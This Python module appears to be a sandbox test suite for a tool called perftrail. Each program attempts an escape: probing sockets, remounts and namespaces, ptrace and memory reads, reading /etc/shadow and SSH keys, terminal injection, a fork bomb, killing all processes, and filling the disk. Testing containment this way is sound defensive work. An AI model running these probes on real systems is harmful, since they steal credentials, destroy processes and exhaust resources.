"""Programs that try to get out of a sandbox. They run on the system's Python, without any package."""

from __future__ import annotations

PRELUDE = r"""
import array, ctypes, errno, fcntl, glob, mmap, os, signal, socket, stat, struct, sys, time
E = os.environ
OWN, OUTSIDE, STUDY, HOME, LIMIT = E["OWN"], E["OUTSIDE"], E["STUDY"], E["HOME"], int(E["LIMIT"])
SECRET = E["SECRET"].encode()
VICTIM = int(E["VICTIM"])
libc = ctypes.CDLL(None, use_errno=True)
MIB = 1 << 20

def escaped(why):
    print("ESCAPED:", why, flush=True)

def quietly(do, *arguments):
    try:
        return do(*arguments)
    except (OSError, ValueError):
        return None

def syscall(number, *arguments):
    words = [ctypes.c_long(each) if isinstance(each, int) else each for each in arguments]
    return libc.syscall(number, *words)

def read(path):
    with open(path, "rb", buffering=0) as file:
        return file.read(1 << 16)

def look_for_secret(paths):
    for path in paths:
        if SECRET in (quietly(read, path) or b""):
            escaped(f"read {path}")

def write(path):
    with open(path, "wb", buffering=0) as file:
        file.write(b"changed")
"""
"""Everything that the programs share; the variables of the environment say what there is to reach."""

_CONNECT = r"""
def connect(family, address, kind=socket.SOCK_STREAM):
    with socket.socket(family, kind) as one:
        one.settimeout(2)
        one.connect(address)
        one.send(b"x")
        return True
"""

_MOUNT = r"""
MS_RDONLY, MS_REMOUNT, MS_BIND, MS_REC = 1, 32, 4096, 16384
def mount(source, target, kind, flags, data=None):
    done = libc.mount(source.encode(), target.encode(), kind.encode(), ctypes.c_ulong(flags), data) == 0
    return done
def attack_mounts():
    for path in (HOME, "/run", "/tmp", "/proc", "/dev", "/home", "/root", "/var/tmp", STUDY + "/.perftrail"):
        for flags in (0, 1, 2):
            libc.umount2(path.encode(), flags)
    for path in ("/", "/usr", "/etc", STUDY, "/sys", "/proc/sys", "/var/lib"):
        mount("none", path, "", MS_REMOUNT | MS_BIND)
        mount("none", path, "", MS_REMOUNT)
    for number, source in enumerate(("/", STUDY, "/proc")):
        target = f"{OWN}/mounted{number}"
        quietly(os.mkdir, target)
        mount(source, target, "", MS_BIND | MS_REC)
        mount("none", target, "", MS_REMOUNT | MS_BIND)
    for kind in ("proc", "sysfs", "cgroup2", "devtmpfs", "tmpfs", "debugfs", "overlay", "ext4"):
        target = f"{OWN}/{kind}"
        quietly(os.mkdir, target)
        mount(kind, target, kind, 0)
    look_for_secret([HOME + "/.ssh/id_secret", OUTSIDE + "/victim", OWN + "/mounted0" + OUTSIDE + "/victim"])
    for path in ("/etc/pwned", STUDY + "/pwned", "/usr/pwned", "/var/lib/pwned"):
        for place in ("", OWN + "/mounted0"):
            quietly(write, place + path)
        if os.path.exists(path):
            escaped(f"wrote {path}")
"""

_FILL = r"""
def fill(descriptor, size):
    block = bytes(MIB)
    for _ in range(size // MIB):
        os.write(descriptor, block)
def unlinked(size):
    path = f"{OWN}/f"
    descriptor = os.open(path, os.O_RDWR | os.O_CREAT | os.O_EXCL)
    os.unlink(path)
    fill(descriptor, size)
    return descriptor
"""

PROGRAMS: dict[str, str] = {
    "path sockets": _CONNECT
    + r"""
for path in [*E["SOCKETS"].split(":"), *glob.glob("/run/*.sock"), *glob.glob("/run/*/*.sock*"), "/run/docker.sock"]:
    if quietly(connect, socket.AF_UNIX, path):
        escaped(path)
for line in (quietly(read, "/proc/net/unix") or b"").splitlines()[1:]:
    words = line.split()
    if len(words) == 8 and quietly(connect, socket.AF_UNIX, words[7]):
        escaped(words[7])
""",
    "a path socket in the study": _CONNECT
    + r"""
if quietly(connect, socket.AF_UNIX, E["IN_STUDY"]):
    escaped(E["IN_STUDY"])
""",
    "a path socket created later": _CONNECT
    + r"""
if quietly(connect, socket.AF_UNIX, E["LATER"]):
    escaped(E["LATER"])
""",
    "abstract sockets": _CONNECT
    + r"""
if quietly(connect, socket.AF_UNIX, "\0" + E["ABSTRACT"]):
    escaped("an abstract socket")
if quietly(connect, socket.AF_UNIX, "\0/tmp/.X11-unix/X0"):
    escaped("X11")
""",
    "network": _CONNECT
    + r"""
TCP, UDP = int(E["TCP"]), int(E["UDP"])
for family, address in ((socket.AF_INET, ("127.0.0.1", TCP)), (socket.AF_INET6, ("::ffff:127.0.0.1", TCP))):
    if quietly(connect, family, address):
        escaped(f"TCP {address}")
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
    quietly(one.sendto, b"x", ("127.0.0.1", UDP))
for family, kind in ((socket.AF_INET, socket.SOCK_RAW), (socket.AF_PACKET, socket.SOCK_RAW)):
    one = quietly(socket.socket, family, kind, 1)
    if one is not None:
        escaped(f"a raw socket, {family}")
with open("/proc/net/dev") as file:
    devices = [line.split(":")[0].strip() for line in file if ":" in line]
if set(devices) - {"lo"}:
    escaped(f"sees the devices {devices}")
if quietly(connect, socket.AF_VSOCK, (2, 1024)):
    escaped("a socket of the virtual machine's host")
""",
    "home and secrets": r"""
look_for_secret([HOME + "/.ssh/id_secret", OUTSIDE + "/victim", OUTSIDE + "/below/victim",
                 "/proc/self/root" + OUTSIDE + "/victim", "/proc/1/root" + OUTSIDE + "/victim"])
for start in ("/home", "/root", "/tmp", "/var/tmp", "/run", "/dev/shm"):
    for directory, names, files in os.walk(start):
        look_for_secret(f"{directory}/{name}" for name in files)
for path in ("/etc/shadow", "/etc/gshadow", "/etc/shadow-", *glob.glob("/etc/ssh/*_key"), "/proc/kcore", "/dev/mem",
             "/dev/kmsg", STUDY + "/.perftrail/results.db"):
    if quietly(read, path):
        escaped(f"read {path}")
""",
    "write outside": r"""
for path in (OUTSIDE, STUDY, E["LOGS"], HOME, "/etc", "/usr/bin", "/var/lib", "/run", "/home", "/dev", "/sys"):
    for number, name in enumerate((path, f"/proc/self/root{path}", f"/proc/1/root{path}", f"/proc/1/cwd{path}")):
        target = f"{name}/pwned"
        quietly(write, target)
        if path != HOME and os.path.exists(target) and path != OUTSIDE:
            escaped(f"wrote {target}")
for change in (lambda p: os.chmod(p, 0o777), lambda p: os.utime(p, (0, 0)), lambda p: os.truncate(p, 0), os.unlink,
               lambda p: os.rename(p, p + "x"), lambda p: os.chown(p, 0, 0), lambda p: os.setxattr(p, "user.x", b"x"),
               lambda p: os.link(p, OWN + "/linked"), lambda p: os.symlink("/etc", p + "l")):
    path = STUDY + "/perftrail.toml"
    try:
        change(path)
    except OSError:
        continue
    escaped(f"changed {path}")
""",
    "write through links that perftrail follows later": r"""
for place in ("/tmp", HOME, "/dev/shm", OWN):
    for name, target in (("a", OUTSIDE), ("b", OUTSIDE + "/victim"), ("c", "/etc"), (".perftrail", OUTSIDE)):
        quietly(os.symlink, target, f"{place}/{name}")
    os.makedirs(f"{place}/deep/er", exist_ok=True)
    quietly(os.symlink, OUTSIDE, f"{place}/deep/er/out")
    os.mkfifo(f"{place}/pipe")
    os.chmod(f"{place}/deep", 0)
""",
    "file handles": r"""
AT_FDCWD = -100
handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0) + bytes(128))
number = ctypes.c_int()
if libc.name_to_handle_at(AT_FDCWD, b"/etc/hostname", handle, ctypes.byref(number), 0) == 0:
    root = os.open("/", os.O_RDONLY)
    if libc.open_by_handle_at(root, handle, 0) >= 0:
        escaped("opened a file by its handle")
""",
    "devices": r"""
import os
for major, minor, kind in ((8, 0, stat.S_IFBLK), (254, 0, stat.S_IFBLK), (1, 1, stat.S_IFCHR), (10, 229, stat.S_IFCHR)):
    path = f"{OWN}/device{major}.{minor}"
    quietly(os.mknod, path, kind | 0o666, os.makedev(major, minor))
    if os.path.exists(path) and quietly(os.open, path, os.O_RDONLY) is not None:
        escaped(f"opened a device {major}, {minor}")
known = {"null", "zero", "full", "random", "urandom", "tty", "console"}
for name in os.listdir("/dev"):
    mode = os.lstat(f"/dev/{name}").st_mode
    if (stat.S_ISCHR(mode) or stat.S_ISBLK(mode)) and name not in known:
        escaped(f"/dev/{name}")
""",
    "mount": _MOUNT
    + r"""
attack_mounts()
""",
    "user namespaces": _MOUNT
    + r"""
CLONE_NEWUSER, CLONE_NEWNS, CLONE_NEWPID, CLONE_NEWNET = 0x10000000, 0x20000, 0x20000000, 0x40000000
if libc.unshare(CLONE_NEWUSER | CLONE_NEWNS) == 0:
    for name, text in (("setgroups", "deny"), ("uid_map", f"0 {os.getuid()} 1"), ("gid_map", f"0 {os.getgid()} 1")):
        try:
            with open(f"/proc/self/{name}", "w") as file:
                file.write(text)
        except OSError:
            pass
    attack_mounts()
    libc.chroot(OWN.encode())
    for _ in range(40):
        quietly(os.chdir, "..")
    quietly(os.chroot, ".")
    look_for_secret([OUTSIDE + "/victim"])
for pid in (1, os.getppid()):
    for name in ("user", "mnt", "pid", "net"):
        descriptor = quietly(os.open, f"/proc/{pid}/ns/{name}", os.O_RDONLY)
        if descriptor is not None and libc.setns(descriptor, 0) == 0:
            look_for_secret([OUTSIDE + "/victim"])
""",
    "setuid programs": r"""
status = dict(line.split(":", 1) for line in open("/proc/self/status") if ":" in line)
if status["NoNewPrivs"].strip() != "1":
    escaped("setuid programs get rights")
for name in ("CapEff", "CapPrm", "CapBnd", "CapAmb"):
    if int(status[name], 16):
        escaped(f"{name} = {status[name].strip()}")
for path in (E["SETUID"], "/usr/bin/su", "/usr/bin/sudo", "/usr/bin/mount", "/usr/bin/passwd"):
    if os.path.exists(path) and os.getuid() != 0:
        import subprocess
        if b"euid=0" in subprocess.run([path], capture_output=True, stdin=subprocess.DEVNULL).stdout:
            escaped(path)
quietly(os.chmod, quietly(os.open, OWN + "/s", os.O_CREAT) or 0, 0o4755)
""",
    "ptrace": r"""
PTRACE_ATTACH, PTRACE_SEIZE, PTRACE_DETACH = 16, 0x4206, 17
buffer = ctypes.create_string_buffer(64)
class iovec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
for pid in (VICTIM, 1, os.getppid()):
    for how in (PTRACE_ATTACH, PTRACE_SEIZE):
        if libc.ptrace(how, pid, None, None) == 0:
            escaped(f"attached to process {pid}")
            libc.ptrace(PTRACE_DETACH, pid, None, None)
    for name in ("mem", "environ", "fd/0", "root/etc/passwd", "cwd/etc/passwd", "map_files"):
        if quietly(read, f"/proc/{pid}/{name}"):
            escaped(f"read /proc/{pid}/{name}")
    local, remote = iovec(ctypes.addressof(buffer), 64), iovec(0x400000, 64)
    if libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0) > 0:
        escaped(f"read the memory of process {pid}")
    descriptor = syscall(434, pid, 0)
    if descriptor >= 0:
        for number in range(20):
            if syscall(438, descriptor, number, 0) >= 0:
                escaped(f"took descriptor {number} of process {pid}")
""",
    "proc of the host": r"""
numbers = [int(name) for name in os.listdir("/proc") if name.isdigit()]
if len(numbers) > 10 or VICTIM in numbers and VICTIM > 50:
    escaped(f"sees the processes {numbers}")
for path in ("/proc/sys/kernel/core_pattern", "/proc/sys/vm/swappiness", "/proc/sysrq-trigger",
             "/sys/kernel/uevent_helper", "/proc/sys/kernel/modprobe", "/sys/fs/cgroup/cgroup.procs"):
    if quietly(os.open, path, os.O_WRONLY) is not None:
        escaped(f"opened {path} for writing")
""",
    "signals": r"""
for pid in (VICTIM, os.getppid() + 10_000):
    for number in (signal.SIGSTOP, signal.SIGKILL):
        quietly(os.kill, pid, number)
        quietly(os.killpg, pid, number)
quietly(os.kill, -1, signal.SIGSTOP) if False else None
for number in (signal.SIGKILL, signal.SIGSTOP):
    quietly(os.kill, 1, number)
""",
    "kill everything": r"""
os.kill(-1, signal.SIGKILL)
""",
    "inherited descriptors": r"""
for name in os.listdir("/proc/self/fd"):
    target = quietly(os.readlink, f"/proc/self/fd/{name}")
    if target is None or int(name) <= 2:
        continue
    if not target.startswith("/proc/"):
        escaped(f"descriptor {name} leads to {target}")
for name in (0, 1, 2):
    if os.path.isdir(f"/proc/self/fd/{name}"):
        escaped(f"descriptor {name} is a directory")
    path = os.readlink(f"/proc/self/fd/{name}")
    if path.startswith("/") and path != "/dev/null":
        descriptor = quietly(os.open, os.path.dirname(path), os.O_RDONLY)
        if descriptor is not None and os.listdir(descriptor):
            escaped(f"the directory of {path} is visible")
""",
    "terminal": r"""
TIOCSTI, TIOCSCTTY = 0x5412, 0x540E
for path in ("/dev/tty", "/dev/console", "/dev/pts/0", "/dev/pts/1", "/proc/self/fd/0", "/proc/self/fd/1"):
    descriptor = quietly(os.open, path, os.O_RDWR | os.O_NOCTTY)
    if descriptor is None or not os.isatty(descriptor):
        continue
    quietly(fcntl.ioctl, descriptor, TIOCSCTTY, 1)
    if quietly(fcntl.ioctl, descriptor, TIOCSTI, b"x") is not None:
        escaped(f"typed on {path}")
""",
    "keyring": r"""
for keyring in (-1, -2, -3, -4, -5):
    key = syscall(250, 10, keyring, ctypes.c_char_p(b"user"), ctypes.c_char_p(SECRET), 0)
    buffer = ctypes.create_string_buffer(100)
    if key > 0 and syscall(250, 11, key, buffer, 100) > 0 and SECRET in buffer.value:
        escaped(f"read a key from keyring {keyring}")
key = syscall(249, ctypes.c_char_p(b"user"), ctypes.c_char_p(SECRET), None, 0)
if key > 0:
    escaped("found a key")
for line in (quietly(read, "/proc/keys") or b"").splitlines():
    if SECRET in line:
        escaped("sees a key")
""",
    "shared memory and queues": r"""
if libc.shmget(int(E["SEGMENT"]), 4096, 0o666) >= 0:
    escaped("shared memory of the machine")
""",
    "names and clocks": r"""
libc.sethostname(b"pwned", 5)
before = time.time()
quietly(time.clock_settime, time.CLOCK_REALTIME, before + 3600)
if time.time() > before + 1800:
    escaped("set the clock")
if libc.reboot(0xfee1dead) == 0 or syscall(175, 0, 0, ctypes.c_char_p(b"")) == 0:
    escaped("reboot or a kernel module")
if syscall(321, 0, ctypes.create_string_buffer(128), 128) >= 0:
    escaped("BPF")
if socket.gethostname() != "sandbox":
    escaped("another host name")
""",
    "io_uring": r"""
ring = syscall(425, 4, ctypes.create_string_buffer(120))
if ring >= 0:
    escaped("the kernel's interface io_uring is available")
""",
    "fork bomb": r"""
made = 0
try:
    while made < 400:
        if os.fork() == 0:
            time.sleep(30)
            os._exit(0)
        made += 1
except OSError:
    pass
if made > int(E["PROCESSES"]) + 5:
    escaped(f"{made} processes, the limit is {E['PROCESSES']}")
""",
    "leave a daemon": r"""
if os.fork() == 0:
    os.setsid()
    for number in range(1, 65):
        quietly(signal.signal, number, signal.SIG_IGN) if number not in (9, 19, 32, 33) else None
    if os.fork() == 0:
        os.execv("/bin/sh", ["sh", "-c", "sleep 100; : perftrail-campaign-daemon"])
    os._exit(0)
time.sleep(0.2)
""",
    "fill the disk with files": _FILL
    + r"""
for number in range(8):
    fill(os.open(f"{OWN}/f{number}", os.O_WRONLY | os.O_CREAT), LIMIT // 2)
time.sleep(3)
""",
    "fill the disk with unlinked open files": _FILL
    + r"""
kept = [unlinked(LIMIT // 2) for _ in range(8)]
time.sleep(3)
""",
    "fill the disk in a deep tree": _FILL
    + r"""
for _ in range(600):
    os.mkdir("d" * 100)
    os.chdir("d" * 100)
for number in range(8):
    fill(os.open(f"f{number}", os.O_WRONLY | os.O_CREAT), LIMIT // 2)
time.sleep(3)
""",
    "fill the disk with names": r"""
for number in range(4 * LIMIT // 4096):
    os.close(os.open(f"{OWN}/{number}", os.O_WRONLY | os.O_CREAT))
time.sleep(3)
""",
    "fill the disk with mapped files": _FILL
    + r"""
for _ in range(8):
    descriptor = unlinked(LIMIT // 2)
    globals().setdefault("maps", []).append(mmap.mmap(descriptor, 4096))
    os.close(descriptor)
time.sleep(3)
""",
    "fill the disk with files in flight": _FILL
    + r"""
one, other = socket.socketpair()
for _ in range(8):
    descriptor = unlinked(LIMIT // 2)
    socket.send_fds(one, [b"x"], [descriptor])
    os.close(descriptor)
time.sleep(3)
""",
    "fill the disk in /dev/shm": _FILL
    + r"""
for number in range(8):
    fill(os.open(f"/dev/shm/f{number}", os.O_WRONLY | os.O_CREAT), LIMIT // 2)
time.sleep(3)
""",
}

UNPROMISED: dict[str, str] = {
    "a path socket created later": "a socket with a path that a service creates after the sandbox started",
    "io_uring": "the kernel allows it to every program; a kernel's defect could open the sandbox",
}
"""Attempts whose success the manual does not exclude, and why."""
